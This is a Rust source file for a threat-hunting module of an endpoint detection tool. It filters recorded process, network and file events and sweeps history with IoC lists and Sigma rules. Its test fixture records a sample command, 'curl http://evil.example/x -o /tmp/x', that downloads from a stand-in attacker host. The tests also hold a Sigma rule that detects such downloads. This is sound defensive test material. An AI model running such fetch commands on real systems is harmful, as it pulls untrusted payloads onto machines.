//! `osprey hunt`: questions to the recorder.
//!
//! Filters come in two kinds. Process filters (`--sha256`, `--cmdline`, `--user`, `--exe`) pick
//! processes by their exec events; event filters (`--ip`/`--cidr`, `--port`, `--domain`,
//! `--path`) pick events. Given both, the answer is the matching events of the matching
//! processes; given only process filters, the processes' exec events. `--since`/`--until`
//! bound the events' time. `--ioc FILE` and `--rules DIR` sweep the recorded documents with the
//! detection engine instead (retroactive detection).

use std::{
    collections::{BTreeSet, HashMap},
    net::IpAddr,
    path::PathBuf,
    sync::Arc,
    time::{SystemTime, UNIX_EPOCH},
};

use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::{
    block::{key, tag},
    index::{ip_key, RowRef},
    store::{Found, Store},
    StoreError,
};
use crate::{
    detect::{Detector, JsonEvent, RuleSet},
    fleet::hunt::glob_regex,
};

/// One hunt, as the CLI and the control socket pass it.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Hunt {
    pub sha256: Option<String>,
    /// An address or a CIDR block; matches either end of a connection or DNS exchange.
    pub ip: Option<String>,
    pub port: Option<u16>,
    /// A domain (`evil.example`) or a glob (`*.evil.example`).
    pub domain: Option<String>,
    /// A glob over `file.path` (`*` also crosses `/`).
    pub path: Option<String>,
    /// A substring of the command line.
    pub cmdline: Option<String>,
    pub user: Option<String>,
    /// A glob over the executable path.
    pub exe: Option<String>,
    pub host: Option<String>,
    /// Alerts only.
    pub alerts: bool,
    pub since_ns: Option<i64>,
    pub until_ns: Option<i64>,
    /// At most this many hits (0: 1000).
    pub limit: usize,
    /// Sweep the history with these rule files / directories or IoC lists instead.
    pub rules: Vec<PathBuf>,
}

/// One recorded event a hunt found.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Hit {
    pub id: i64,
    #[serde(rename = "@timestamp")]
    pub timestamp: String,
    pub host: String,
    pub kind: String,
    pub action: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub entity_id: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub pid: Option<i64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub executable: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command_line: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    /// What the event was about: a path, a peer, a domain, a rule.
    pub object: String,
    /// The rule that matched, for sweeps.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub matched_rule: Option<String>,
    pub doc: Value,
}

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Answer {
    pub hits: Vec<Hit>,
    /// More matched than `limit`.
    pub truncated: bool,
    /// Recorded events a sweep read.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub scanned: Option<u64>,
}

/// Parses `--since`/`--until`: a duration back from now (`24h`, `15m`) or an RFC 3339 time.
pub fn parse_time(s: &str) -> Result<i64, String> {
    if let Ok(d) = humantime::parse_duration(s) {
        let now = SystemTime::now().duration_since(UNIX_EPOCH).map_err(|e| e.to_string())?;
        return Ok(now.saturating_sub(d).as_nanos() as i64);
    }
    super::index::parse_ts(s).ok_or_else(|| format!("`{s}` is neither a duration like 24h nor an RFC 3339 time"))
}

/// A CIDR block (or one address) as the inclusive byte range of [`ip_key`]s it covers.
pub fn ip_range(s: &str) -> Result<([u8; 16], [u8; 16]), String> {
    let (addr, bits) = match s.split_once('/') {
        Some((a, b)) => (a, Some(b.parse::<u32>().map_err(|_| format!("`{s}`: bad prefix length"))?)),
        None => (s, None),
    };
    let ip: IpAddr = addr.parse().map_err(|_| format!("`{s}` is not an IP address or CIDR block"))?;
    let max = if ip.is_ipv4() { 32 } else { 128 };
    let bits = bits.unwrap_or(max);
    if bits > max {
        return Err(format!("`{s}`: prefix longer than {max}"));
    }
    let key = u128::from_be_bytes(ip_key(ip));
    let host_bits = max - bits;
    let mask = if host_bits == 128 { u128::MAX } else { (1u128 << host_bits) - 1 };
    Ok(((key & !mask).to_be_bytes(), (key | mask).to_be_bytes()))
}

impl Hunt {
    fn limit(&self) -> usize {
        if self.limit == 0 {
            1000
        } else {
            self.limit
        }
    }

    fn has_process_filter(&self) -> bool {
        self.sha256.is_some() || self.cmdline.is_some() || self.user.is_some() || self.exe.is_some()
    }

    fn has_event_filter(&self) -> bool {
        self.ip.is_some() || self.port.is_some() || self.domain.is_some() || self.path.is_some() || self.alerts
    }

    /// Checks the filters before any query runs.
    pub fn validate(&self) -> Result<(), String> {
        if let Some(ip) = &self.ip {
            ip_range(ip)?;
        }
        if let Some(h) = &self.sha256 {
            if h.len() != 64 || !h.bytes().all(|b| b.is_ascii_hexdigit()) {
                return Err(format!("--sha256 `{h}`: not 64 hex digits"));
            }
        }
        if let (Some(a), Some(b)) = (self.since_ns, self.until_ns) {
            if a > b {
                return Err("--since is after --until".into());
            }
        }
        Ok(())
    }

    /// Runs the hunt.
    pub fn run(&self, store: &Store) -> Result<Answer, HuntError> {
        self.validate().map_err(HuntError::Query)?;
        if !self.rules.is_empty() {
            return self.sweep(store);
        }
        let mut m = Matcher::new(self)?;
        // Narrow the blocks to read through the postings of every indexed filter.
        let mut blocks: Option<BTreeSet<i64>> = None;
        let mut narrow = |set: BTreeSet<i64>| {
            blocks = Some(match blocks.take() {
                None => set,
                Some(b) => b.intersection(&set).copied().collect(),
            });
        };
        if self.has_process_filter() {
            let execs = if let Some(h) = &m.sha256 {
                Some(store.posted_key(&key(tag::SHA256, h.as_bytes()))?)
            } else if let Some(u) = &self.user {
                Some(store.posted_key(&key(tag::USER, u.as_bytes()))?)
            } else {
                match self.exe.as_deref().map(glob_prefix).filter(|p| !p.is_empty()) {
                    Some(p) => Some(store.posted_prefix(&key(tag::EXE, p.as_bytes()))?),
                    None => None,
                }
            };
            let procs = store.find_execs(execs.as_ref(), |r| m.process(r))?;
            let entities: BTreeSet<String> = procs.into_iter().filter_map(|f| f.row.entity).collect();
            let keys: Vec<Vec<u8>> = entities.iter().map(|e| key(tag::ENTITY, e.as_bytes())).collect();
            narrow(store.posted_any(&keys)?);
            m.entities = Some(entities);
        }
        if let Some((lo, hi)) = m.ip {
            narrow(store.posted(&key(tag::IP, &lo), Some(&key(tag::IP, &hi)))?);
        }
        if let Some(d) = &m.domain {
            narrow(store.posted_prefix(&key(tag::DOMAIN, glob_prefix(d).as_bytes()))?);
        }
        if let Some(p) = &self.path {
            narrow(store.posted_prefix(&key(tag::PATH, glob_prefix(p).as_bytes()))?);
        }
        if self.alerts {
            narrow(store.posted_prefix(&[tag::ALERT])?);
        }
        let only_execs = self.has_process_filter() && !self.has_event_filter();
        // One more than the limit: whether the answer was cut short.
        let found = store.find(blocks.as_ref(), self.since_ns, self.until_ns, self.limit() + 1, |r| {
            m.event(r) && (!only_execs || r.cmdline.is_some()) && self.host.as_ref().is_none_or(|h| r.host == h)
        })?;
        let truncated = found.len() > self.limit();
        let mut hits = found.into_iter().take(self.limit()).map(|f| hit_of(store, f)).collect::<Result<Vec<_>, _>>()?;
        fill_cmdlines(store, &mut hits)?;
        Ok(Answer { hits, truncated, scanned: None })
    }

    /// Runs rules or IoC lists over the recorded documents in the time range.
    fn sweep(&self, store: &Store) -> Result<Answer, HuntError> {
        let (set, report) = RuleSet::load(&self.rules);
        if !report.is_ok() {
            return Err(HuntError::Rules(report.errors.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")));
        }
        let mut det = Detector::new(Arc::new(set));
        let mut answer = Answer { scanned: Some(0), ..Answer::default() };
        let mut alerts = Vec::new();
        // Block by block, each block's events in time order (a block puts its execs first;
        // correlations need the order), so a sweep over the whole store holds one block.
        let mut pending: Vec<Found> = Vec::new();
        let mut evaluate = |mut block: Vec<Found>, answer: &mut Answer| -> Result<(), StoreError> {
            block.sort_by_key(|f| (f.row.ts_ns, f.id));
            for f in block {
                *answer.scanned.as_mut().expect("set") += 1;
                let hit = hit_of(store, f)?;
                det.evaluate(&JsonEvent::new(&hit.doc), &mut alerts);
                for a in alerts.drain(..).filter(|a| a.standalone) {
                    if answer.hits.len() == self.limit() {
                        answer.truncated = true;
                        continue;
                    }
                    let mut h = hit.clone();
                    h.matched_rule = Some(a.rule.title.clone());
                    answer.hits.push(h);
                }
            }
            Ok(())
        };
        store.scan(
            None,
            self.since_ns,
            self.until_ns,
            false,
            |r| r.kind == "event" && self.host.as_ref().is_none_or(|h| r.host == h),
            |f| {
                if pending.last().is_some_and(|p| p.block != f.block) {
                    evaluate(std::mem::take(&mut pending), &mut answer)?;
                }
                pending.push(f);
                Ok(())
            },
        )?;
        evaluate(pending, &mut answer)?;
        fill_cmdlines(store, &mut answer.hits)?;
        Ok(answer)
    }
}

/// A hunt's filters, ready to test rows against.
struct Matcher<'h> {
    hunt: &'h Hunt,
    sha256: Option<String>,
    exe: Option<Regex>,
    ip: Option<([u8; 16], [u8; 16])>,
    domain: Option<String>,
    domain_glob: Option<Regex>,
    path: Option<Regex>,
    /// The processes the process filters picked (once they ran; `None` without them).
    entities: Option<BTreeSet<String>>,
}

impl<'h> Matcher<'h> {
    fn new(hunt: &'h Hunt) -> Result<Self, HuntError> {
        // `(?s)`: `*` and `?` match a newline too, as SQLite's GLOB does (a file name may hold one).
        let glob = |g: &str| Regex::new(&format!("(?s){}", glob_regex(g))).map_err(|e| HuntError::Query(format!("`{g}`: {e}")));
        let domain = hunt.domain.as_deref().map(|d| d.trim_end_matches('.').to_ascii_lowercase());
        Ok(Self {
            hunt,
            sha256: hunt.sha256.as_deref().map(str::to_ascii_lowercase),
            exe: hunt.exe.as_deref().map(glob).transpose()?,
            ip: hunt.ip.as_deref().map(ip_range).transpose().map_err(HuntError::Query)?,
            domain_glob: domain.as_deref().filter(|d| d.contains(['*', '?', '['])).map(glob).transpose()?,
            domain,
            path: hunt.path.as_deref().map(glob).transpose()?,
            entities: None,
        })
    }

    /// An exec event the process filters pick.
    fn process(&self, r: &RowRef<'_>) -> bool {
        let h = self.hunt;
        r.cmdline.is_some()
            && r.entity.is_some()
            && self.sha256.as_deref().is_none_or(|s| r.sha256 == Some(s))
            && h.cmdline.as_deref().is_none_or(|c| r.cmdline.is_some_and(|x| x.contains(c)))
            && h.user.as_deref().is_none_or(|u| r.user == Some(u))
            && self.exe.as_ref().is_none_or(|g| r.exe.is_some_and(|x| g.is_match(x)))
    }

    /// An event the event filters (and the picked processes, if any) let through.
    fn event(&self, r: &RowRef<'_>) -> bool {
        let h = self.hunt;
        let in_range = |ip: &Option<[u8; 16]>| ip.is_some_and(|ip| self.ip.is_some_and(|(lo, hi)| ip >= lo && ip <= hi));
        self.entities.as_ref().is_none_or(|picked| r.entity.is_some_and(|e| picked.contains(e)))
            && (self.ip.is_none() || in_range(&r.src_ip) || in_range(&r.dst_ip))
            && h.port.is_none_or(|p| r.src_port == Some(p.into()) || r.dst_port == Some(p.into()))
            && match (&self.domain_glob, &self.domain) {
                (Some(g), _) => r.domain.is_some_and(|d| g.is_match(d)),
                (None, Some(d)) => r.domain == Some(d.as_str()),
                (None, None) => true,
            }
            && self.path.as_ref().is_none_or(|g| r.path.is_some_and(|p| g.is_match(p)))
            && (!h.alerts || r.alert.is_some())
    }
}

/// The literal start of a glob: every match begins with it.
fn glob_prefix(g: &str) -> &str {
    &g[..g.find(['*', '?', '[']).unwrap_or(g.len())]
}

#[derive(Debug, thiserror::Error)]
pub enum HuntError {
    #[error("{0}")]
    Store(#[from] StoreError),
    #[error("hunt: {0}")]
    Query(String),
    #[error("rules:\n{0}")]
    Rules(String),
}

fn hit_of(store: &Store, f: Found) -> Result<Hit, StoreError> {
    let doc = store.doc(f.block, f.slot)?;
    let r = f.row;
    Ok(Hit {
        id: f.id,
        timestamp: crate::event::rfc3339(r.ts_ns as u64),
        host: r.host,
        kind: r.kind,
        action: r.action,
        entity_id: r.entity,
        pid: r.pid,
        executable: r.exe,
        command_line: r.cmdline,
        user: r.user,
        object: describe(&doc),
        matched_rule: None,
        doc,
    })
}

/// Events other than execs name their process by entity id: take its command line from its
/// (latest) exec. The processes' blocks are read once for all hits.
fn fill_cmdlines(store: &Store, hits: &mut [Hit]) -> Result<(), StoreError> {
    let need: BTreeSet<&str> = hits.iter().filter(|h| h.command_line.is_none()).filter_map(|h| h.entity_id.as_deref()).collect();
    if need.is_empty() {
        return Ok(());
    }
    let keys: Vec<Vec<u8>> = need.iter().map(|e| key(tag::ENTITY, e.as_bytes())).collect();
    let blocks = store.posted_any(&keys)?;
    let mut latest: HashMap<String, String> = HashMap::new();
    // In time order: a later exec replaces an earlier one.
    for f in store.find_execs(Some(&blocks), |r| r.entity.is_some_and(|e| need.contains(e)))? {
        if let (Some(e), Some(c)) = (f.row.entity, f.row.cmdline) {
            latest.insert(e, c);
        }
    }
    for h in hits.iter_mut().filter(|h| h.command_line.is_none()) {
        h.command_line = h.entity_id.as_ref().and_then(|e| latest.get(e).cloned());
    }
    Ok(())
}

/// A one-line summary of what an event was about.
pub fn describe(doc: &Value) -> String {
    let s = |p: &[&str]| -> Option<String> {
        let mut v = doc;
        for k in p {
            v = v.get(k)?;
        }
        match v {
            Value::String(s) => Some(s.clone()),
            Value::Number(n) => Some(n.to_string()),
            _ => None,
        }
    };
    let kind = s(&["event", "kind"]).unwrap_or_default();
    let action = s(&["event", "action"]).unwrap_or_default();
    if kind == "alert" {
        return format!("rule \"{}\"", s(&["rule", "name"]).unwrap_or_default());
    }
    if action == "osprey-response" {
        let r = &doc["osprey"]["response"];
        return format!(
            "{} {} → {}",
            r["action"].as_str().unwrap_or(""),
            r["target"].as_str().unwrap_or(""),
            r["result"].as_str().unwrap_or("")
        );
    }
    if action == "exec" {
        return s(&["process", "command_line"]).unwrap_or_default();
    }
    if let Some(q) = s(&["dns", "question", "name"]) {
        let answers: Vec<&str> = doc["dns"]["resolved_ip"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
        return if answers.is_empty() { q } else { format!("{q} → {}", answers.join(", ")) };
    }
    if let Some(ip) = s(&["destination", "ip"]) {
        let port = s(&["destination", "port"]).map(|p| format!(":{p}")).unwrap_or_default();
        let dom = s(&["destination", "domain"]).map(|d| format!(" ({d})")).unwrap_or_default();
        let src = s(&["source", "ip"]).map(|i| format!("{i}:{} → ", s(&["source", "port"]).unwrap_or_default())).unwrap_or_default();
        return format!("{src}{ip}{port}{dom}");
    }
    if let Some(p) = s(&["file", "path"]) {
        return match s(&["file", "Ext", "original", "path"]) {
            Some(orig) => format!("{orig} → {p}"),
            None => p,
        };
    }
    if let Some(u) = s(&["user", "id"]) {
        return format!("user {u}{}", s(&["user", "name"]).map(|n| format!(" ({n})")).unwrap_or_default());
    }
    if action == "exit" {
        return s(&["process", "exit_code"]).map(|c| format!("exit code {c}")).unwrap_or_default();
    }
    String::new()
}

/// The answer as a table for the terminal.
pub fn print_table(a: &Answer, out: &mut dyn std::io::Write) -> std::io::Result<()> {
    writeln!(out, "{:<30} {:<12} {:>7} {:<20} {:<22} OBJECT / COMMAND", "TIME", "HOST", "PID", "PROCESS", "ACTION")?;
    for h in &a.hits {
        let name = h.executable.as_deref().map(|e| e.rsplit('/').next().unwrap_or(e)).unwrap_or("-");
        let action = match &h.matched_rule {
            Some(r) => format!("{} [{}]", h.action, r),
            None => h.action.clone(),
        };
        let object = if h.object.is_empty() { h.command_line.clone().unwrap_or_default() } else { h.object.clone() };
        let host: String = h.host.chars().take(12).collect();
        writeln!(out, "{:<30} {:<12} {:>7} {:<20} {:<22} {}", h.timestamp, host, h.pid.unwrap_or(0), name, action, object)?;
    }
    if a.truncated {
        writeln!(out, "(more matched: raise --limit)")?;
    }
    if let Some(n) = a.scanned {
        writeln!(out, "{} hit(s) in {n} recorded event(s)", a.hits.len())?;
    }
    Ok(())
}

/// A fleet answer: the table, one section per host (hits are grouped by host already).
pub fn print_by_host(a: &Answer, out: &mut dyn std::io::Write) -> std::io::Result<()> {
    let mut i = 0;
    while i < a.hits.len() {
        let host = &a.hits[i].host;
        let n = a.hits[i..].iter().take_while(|h| &h.host == host).count();
        writeln!(out, "== host {host}: {n} hit(s)")?;
        let part = Answer { hits: a.hits[i..i + n].to_vec(), truncated: false, scanned: None };
        print_table(&part, out)?;
        i += n;
    }
    if a.truncated {
        writeln!(out, "(more matched: raise --limit)")?;
    }
    if let Some(n) = a.scanned {
        writeln!(out, "{} hit(s) in {n} recorded event(s)", a.hits.len())?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::recorder::index::row;

    fn put(store: &mut Store, docs: &[String]) {
        let rows: Vec<_> = docs.iter().map(|d| row(d.as_bytes(), None).unwrap()).collect();
        store.insert(rows.iter().zip(docs).map(|(r, d)| (r, d.as_bytes()))).unwrap();
    }

    fn ts(s: i64) -> String {
        crate::event::rfc3339(1_800_000_000_000_000_000 + s as u64 * 1_000_000_000)
    }

    fn fixture() -> (tempfile::TempDir, Store) {
        let dir = tempfile::tempdir().unwrap();
        let mut s = Store::open(&dir.path().join("r.db")).unwrap();
        let h = "a".repeat(64);
        put(
            &mut s,
            &[
                format!(r#"{{"@timestamp":"{}","event":{{"action":"exec","category":["process"],"type":["start"]}},"host":{{"id":"h1"}},"process":{{"pid":10,"entity_id":"p10","executable":"/usr/bin/curl","command_line":"curl http://evil.example/x -o /tmp/x","hash":{{"sha256":"{h}"}},"user":{{"name":"www-data"}},"parent":{{"entity_id":"p1"}}}}}}"#, ts(0)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"query","category":["network"],"type":["protocol"]}},"host":{{"id":"h1"}},"process":{{"pid":10,"entity_id":"p10","executable":"/usr/bin/curl"}},"dns":{{"question":{{"name":"evil.example."}}}}}}"#, ts(1)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"connection_attempted","category":["network"],"type":["connection"]}},"host":{{"id":"h1"}},"process":{{"pid":10,"entity_id":"p10","executable":"/usr/bin/curl"}},"source":{{"ip":"10.0.0.5","port":40000}},"destination":{{"ip":"203.0.113.7","port":443,"domain":"evil.example"}}}}"#, ts(2)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"creation","category":["file"],"type":["creation"]}},"host":{{"id":"h1"}},"process":{{"pid":10,"entity_id":"p10","executable":"/usr/bin/curl"}},"file":{{"path":"/tmp/x"}}}}"#, ts(3)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"exec","category":["process"],"type":["start"]}},"host":{{"id":"h1"}},"process":{{"pid":11,"entity_id":"p11","executable":"/usr/bin/ls","command_line":"ls /","user":{{"name":"root"}},"parent":{{"entity_id":"p1"}}}}}}"#, ts(4)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"connection_attempted","category":["network"],"type":["connection"]}},"host":{{"id":"h1"}},"process":{{"pid":11,"entity_id":"p11","executable":"/usr/bin/ls"}},"destination":{{"ip":"2001:db8::1","port":53}}}}"#, ts(5)),
            ],
        );
        (dir, s)
    }

    fn actions(a: &Answer) -> Vec<(String, String)> {
        a.hits.iter().map(|h| (h.entity_id.clone().unwrap_or_default(), h.action.clone())).collect()
    }

    fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
        v.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect()
    }

    #[test]
    fn hunts_by_each_field_and_their_combinations() {
        let (_d, s) = fixture();
        let run = |h: Hunt| h.run(&s).unwrap();
        let a = run(Hunt { ip: Some("203.0.113.7".into()), ..Hunt::default() });
        assert_eq!(actions(&a), pairs(&[("p10", "connection_attempted")]));
        assert_eq!(a.hits[0].command_line.as_deref(), Some("curl http://evil.example/x -o /tmp/x"), "from its exec");
        assert!(a.hits[0].object.contains("203.0.113.7:443"), "{}", a.hits[0].object);
        assert_eq!(actions(&run(Hunt { ip: Some("203.0.113.0/24".into()), ..Hunt::default() })).len(), 1);
        assert_eq!(actions(&run(Hunt { ip: Some("10.0.0.0/8".into()), ..Hunt::default() })).len(), 1, "source side too");
        assert_eq!(actions(&run(Hunt { ip: Some("2001:db8::/32".into()), ..Hunt::default() })), pairs(&[("p11", "connection_attempted")]));
        assert_eq!(actions(&run(Hunt { ip: Some("0.0.0.0/0".into()), ..Hunt::default() })).len(), 1, "IPv4 only");
        assert_eq!(actions(&run(Hunt { ip: Some("::/0".into()), ..Hunt::default() })).len(), 2);
        assert_eq!(actions(&run(Hunt { domain: Some("evil.example".into()), ..Hunt::default() })).len(), 2);
        assert_eq!(actions(&run(Hunt { domain: Some("*.example".into()), ..Hunt::default() })).len(), 2);
        assert_eq!(actions(&run(Hunt { path: Some("/tmp/*".into()), ..Hunt::default() })), pairs(&[("p10", "creation")]));
        assert_eq!(actions(&run(Hunt { sha256: Some("A".repeat(64)), ..Hunt::default() })), pairs(&[("p10", "exec")]));
        assert_eq!(actions(&run(Hunt { cmdline: Some("evil.example/x".into()), ..Hunt::default() })), pairs(&[("p10", "exec")]));
        assert_eq!(actions(&run(Hunt { user: Some("root".into()), ..Hunt::default() })), pairs(&[("p11", "exec")]));
        assert_eq!(actions(&run(Hunt { exe: Some("*/curl".into()), ..Hunt::default() })), pairs(&[("p10", "exec")]));
        // process filter + event filter: that process's matching events
        let a = run(Hunt { user: Some("www-data".into()), port: Some(443), ..Hunt::default() });
        assert_eq!(actions(&a), pairs(&[("p10", "connection_attempted")]));
        assert!(run(Hunt { user: Some("root".into()), port: Some(443), ..Hunt::default() }).hits.is_empty());
        // time
        let since = crate::recorder::index::parse_ts(&ts(2)).unwrap();
        let a = run(Hunt { since_ns: Some(since), until_ns: Some(since + 1_000_000_000), ..Hunt::default() });
        assert_eq!(actions(&a), pairs(&[("p10", "connection_attempted"), ("p10", "creation")]));
        let a = run(Hunt { limit: 2, ..Hunt::default() });
        assert!(a.truncated && a.hits.len() == 2);
        // bad input is named
        assert!(Hunt { ip: Some("10.0.0.0/33".into()), ..Hunt::default() }.run(&s).unwrap_err().to_string().contains("prefix"));
        assert!(Hunt { sha256: Some("xyz".into()), ..Hunt::default() }.validate().unwrap_err().contains("64 hex"));
        assert!(parse_time("yesterday").unwrap_err().contains("yesterday"));
        assert!(parse_time("24h").unwrap() > 0);
    }

    #[test]
    fn globs_match_a_newline_in_a_name_as_sqlite_did() {
        let dir = tempfile::tempdir().unwrap();
        let mut s = Store::open(&dir.path().join("r.db")).unwrap();
        let doc = format!(r#"{{"@timestamp":"{}","event":{{"action":"creation"}},"host":{{"id":"h1"}},"process":{{"pid":1,"entity_id":"p1"}},"file":{{"path":"/tmp/a\nb"}}}}"#, ts(0));
        put(&mut s, &[doc]);
        for glob in ["/tmp/*", "/tmp/a?b", "*b"] {
            assert_eq!(Hunt { path: Some(glob.into()), ..Hunt::default() }.run(&s).unwrap().hits.len(), 1, "{glob}");
        }
    }

    #[test]
    fn sweeps_history_with_ioc_lists_and_sigma_rules() {
        let (dir, s) = fixture();
        let ioc = dir.path().join("bad.ioc.yaml");
        std::fs::write(&ioc, "title: Bad infra\nips:\n  - 203.0.113.0/24\ndomains:\n  - evil.example\n").unwrap();
        let a = Hunt { rules: vec![ioc], ..Hunt::default() }.run(&s).unwrap();
        assert_eq!(a.scanned, Some(6));
        assert!(a.hits.iter().all(|h| h.matched_rule.as_deref() == Some("Bad infra")));
        assert!(a.hits.iter().any(|h| h.action == "connection_attempted"), "{:?}", actions(&a));
        let rule = dir.path().join("curl.yml");
        std::fs::write(
            &rule,
            "title: Curl download to tmp\nid: 11111111-2222-3333-4444-555555555555\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /curl\n    CommandLine|contains: ' -o /tmp/'\n  condition: sel\nlevel: high\n",
        )
        .unwrap();
        let a = Hunt { rules: vec![rule], ..Hunt::default() }.run(&s).unwrap();
        assert_eq!(actions(&a), pairs(&[("p10", "exec")]));
        let bad = dir.path().join("bad.yml");
        std::fs::write(&bad, "title: x\ndetection: {condition: nope}\n").unwrap();
        let e = Hunt { rules: vec![bad.clone()], ..Hunt::default() }.run(&s).unwrap_err().to_string();
        assert!(e.contains("bad.yml"), "{e}");
    }
}
